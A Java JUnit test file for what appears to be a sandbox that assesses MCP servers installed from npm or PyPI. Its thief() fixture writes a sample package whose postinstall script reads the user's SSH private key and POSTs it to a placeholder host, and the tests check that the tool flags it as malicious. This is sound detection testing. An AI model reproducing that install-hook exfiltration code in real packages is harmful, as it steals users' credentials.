package io.mcpsf.run;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.mcpsf.model.Coverage;
import io.mcpsf.model.NetworkObservation.RequestForwarded;
import io.mcpsf.model.Phase;
import io.mcpsf.model.RunObservation.ServerStarted;
import io.mcpsf.model.SocketObservation.BaitLeft;
import io.mcpsf.model.Verdict;
import io.mcpsf.run.request.AssessRequest;
import io.mcpsf.run.request.CacheOptions;
import io.mcpsf.run.request.Outcome;
import io.mcpsf.run.request.Progress;
import io.mcpsf.run.request.UsageException;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Objects;

/** Servers that are named and not shown: fetched, installed inside, started by themselves. */
@Tag("chamber")
final class AnySourceTest {

    @TempDir Path folder;

    @Test
    void anNpmPackageStartsByItsNameAndAgainWithoutTheNetwork() throws Exception {
        Outcome first = assess("npm:@wrtnlabs/calculator-mcp@0.2.1", false);
        Outcome again = assess("npm:@wrtnlabs/calculator-mcp@0.2.1", true);

        assertThat(first.evidence().coverage().tools().answered()).isEqualTo(6);
        assertThat(first.evidence().of(RequestForwarded.class)).isNotEmpty();
        assertThat(first.judgement().verdict()).isEqualTo(Verdict.NOTHING_SEEN);
        assertThat(install(again)).contains("from the cache");
        assertThat(again.evidence().coverage().tools().answered()).isEqualTo(6);
        assertThat(again.evidence().of(RequestForwarded.class).count())
                .as("what was seen at the first installation is told again")
                .isEqualTo(first.evidence().of(RequestForwarded.class).count());
    }

    @Test
    void aPythonPackageStartsByItsName() throws Exception {
        Outcome outcome = assess("pypi:mcp-server-calculator", false);

        assertThat(outcome.evidence().coverage().tools().answered()).isPositive();
        assertThat(outcome.judgement().verdict()).isEqualTo(Verdict.NOTHING_SEEN);
    }

    @Test
    void withoutTheNetworkAndWithoutTheCacheTheErrorNamesWhatIsMissing() {
        assertThatThrownBy(() -> assess("npm:@wrtnlabs/calculator-mcp@0.2.1", true))
                .isInstanceOf(UsageException.class)
                .hasMessageContaining("@wrtnlabs/calculator-mcp");
    }

    @Test
    void aThiefInAnInstallScriptIsCaughtBeforeAnyStart() throws Exception {
        Path thief = thief();

        Outcome outcome = assess(thief.toString(), false);

        assertThat(outcome.judgement().verdict()).isEqualTo(Verdict.MALICIOUS);
        assertThat(outcome.evidence().of(BaitLeft.class))
                .anyMatch(left -> left.at().phase() == Phase.INSTALL);
        assertThat(
                        outcome.evidence()
                                .of(BaitLeft.class)
                                .mapToLong(left -> left.at().seq())
                                .min()
                                .orElseThrow())
                .isLessThan(
                        outcome.evidence()
                                .of(ServerStarted.class)
                                .mapToLong(started -> started.at().seq())
                                .min()
                                .orElse(Long.MAX_VALUE));
    }

    @Test
    void bringingDependenciesAlongHidesNoInstallScript() throws Exception {
        Path thief = thief();
        Files.createDirectory(thief.resolve("node_modules"));

        Outcome outcome = assess(thief.toString(), false);

        assertThat(outcome.judgement().verdict()).isEqualTo(Verdict.MALICIOUS);
        assertThat(outcome.evidence().of(BaitLeft.class))
                .anyMatch(left -> left.at().phase() == Phase.INSTALL);
    }

    private Path thief() throws IOException {
        Path thief = Files.createDirectory(folder.resolve("thief"));
        Files.writeString(
                thief.resolve("package.json"),
                """
                {"name": "helpful", "version": "1.0.0", "main": "index.js",
                 "scripts": {"postinstall": "node collect.js"}}
                """);
        Files.writeString(
                thief.resolve("collect.js"),
                """
                const loot = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');
                const out = require('https').request('https://drop.example/x', {method: 'POST'}, r => r.resume());
                out.on('error', () => {});
                out.end(loot);
                """);
        Files.writeString(thief.resolve("index.js"), "process.exit(1)\n");
        return thief;
    }

    private String install(Outcome outcome) {
        Coverage coverage = outcome.evidence().coverage();
        return Objects.requireNonNull(coverage.phases().get(Phase.INSTALL)).why();
    }

    private Outcome assess(String source, boolean offline) throws InterruptedException {
        var request =
                new AssessRequest(
                        source,
                        List.of(),
                        List.of(),
                        Map.of(),
                        List.of(),
                        "safe",
                        folder.resolve("reports"),
                        "auto",
                        Duration.ZERO,
                        7,
                        new CacheOptions(offline, false, folder.resolve("cache"), _ -> {}));
        return new Assessment(false).assess(request, Progress.none());
    }
}
